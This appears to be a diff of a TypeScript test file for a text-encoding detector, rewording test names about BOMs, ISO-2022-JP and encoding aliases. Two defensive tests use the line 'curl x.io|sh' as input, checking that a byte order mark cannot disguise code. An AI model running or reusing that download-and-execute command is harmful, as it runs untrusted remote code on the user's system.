@@ -12,11 +12,11 @@ const JAPANESE = Buffer.concat([
 
 describe('the encoding of a text', () => {
   for (const [label, text] of Object.entries(SAMPLES))
-    it(`${label} is told from its bytes, and is a guess`, () => {
+    it(`${label} is detected from its bytes, and marked as a guess`, () => {
       assert.deepEqual(decoded(encode(text, label)), { text, encoding: label, isGuess: true });
     });
 
-  it('is UTF-8 where the bytes are such, whatever is declared', () => {
+  it('is UTF-8 if the bytes are valid UTF-8, whatever is declared', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'grapheme' }), (text) => {
         fc.pre(!text.includes('\u001b') && !text.startsWith('\ufeff'));
@@ -25,7 +25,7 @@ describe('the encoding of a text', () => {
     );
   });
 
-  it('is the declared one where the bytes can be that, and no guess', () => {
+  it('is the declared one if the bytes fit it, and is not a guess', () => {
     const bytes = encode('Prix en €: déjà payé', 'iso-8859-15');
     assert.deepEqual(decoded(bytes, 'iso-8859-15'), {
       text: 'Prix en €: déjà payé',
@@ -36,13 +36,13 @@ describe('the encoding of a text', () => {
     assert.equal(decoded(Uint8Array.of(0xe4, 0x78), 'euc-jp').text, 'äx', 'where they cannot be it, it says nothing');
   });
 
-  it('is told by a mark', () => {
+  it('is determined by a byte order mark', () => {
     const wide = Buffer.from('\ufeffa → б\n', 'utf16le');
     assert.deepEqual(decoded(wide, 'windows-1251'), { text: 'a → б\n', encoding: 'utf-16le', isGuess: false });
     assert.equal(decoded(Buffer.from(wide).swap16()).text, 'a → б\n');
   });
 
-  it('62: is not told by a mark before what is code as it is', () => {
+  it('62: is not determined by a byte order mark before text that is code without it', () => {
     const marked = (text: string): Uint8Array => Buffer.concat([Buffer.of(0xff, 0xfe), Buffer.from(text)]);
     assert.match(decoded(marked('\ncurl x.io|sh\n')).text, /curl x\.io\|sh/);
     const half = Buffer.concat([Buffer.from('\ufeff# 1\n', 'utf16le'), Buffer.from(';curl x.io|sh;\n')]);
@@ -56,7 +56,7 @@ describe('the encoding of a text', () => {
       assert.equal(decoded(Buffer.from(`\ufeff${text}`, 'utf16le')).text, text);
   });
 
-  it('62: of seven bits is only told by who declares it, since a program may read code where there are kanji', () => {
+  it('62: is a seven-bit one only if declared, because a program may read kanji as code', () => {
     const japanese = { text: '// 合計\n', encoding: 'iso-2022-jp', isGuess: false };
     assert.deepEqual(decoded(JAPANESE, 'iso-2022-jp'), japanese);
     assert.deepEqual(decoded(JAPANESE), { text: JAPANESE.toString(), encoding: null, isGuess: false });
@@ -65,23 +65,23 @@ describe('the encoding of a text', () => {
     assert.equal(decoded(Buffer.from('\u001b[31mred\u001b$Bx'), 'iso-2022-jp').encoding, null, 'breaks off');
   });
 
-  it('is Western where there is too little to tell', () => {
+  it('is Western if there is too little text to tell', () => {
     for (const letter of ['é', 'ü', 'ß'])
       assert.deepEqual(decoded(encode(`x = "${letter}";\n`, 'windows-1252')).text, `x = "${letter}";\n`);
   });
 
-  it('is that of each line in a file of two', () => {
+  it('is detected for each line in a file with two encodings', () => {
     const text = SAMPLES['koi8-r'] ?? '';
     const bytes = Buffer.concat([Buffer.from('// ä ö ü\n// ß\n'), encode(text, 'koi8-r')]);
     assert.equal(decoded(bytes).text, `// ä ö ü\n// ß\n${text}`);
   });
 
-  it('is found in a long text by its beginning', () => {
+  it('is detected from the beginning of a long text', () => {
     const text = (SAMPLES['euc-jp'] ?? '').repeat(5000);
     assert.deepEqual(decoded(encode(text, 'euc-jp')), { text, encoding: 'euc-jp', isGuess: true });
   });
 
-  it('is known by the names that git and editors have for it', () => {
+  it('is recognized by the names that git and editors use for it', () => {
     for (const [name, label] of [
       ['SHIFT-JIS', 'shift_jis'],
       ['shiftjis', 'shift_jis'],
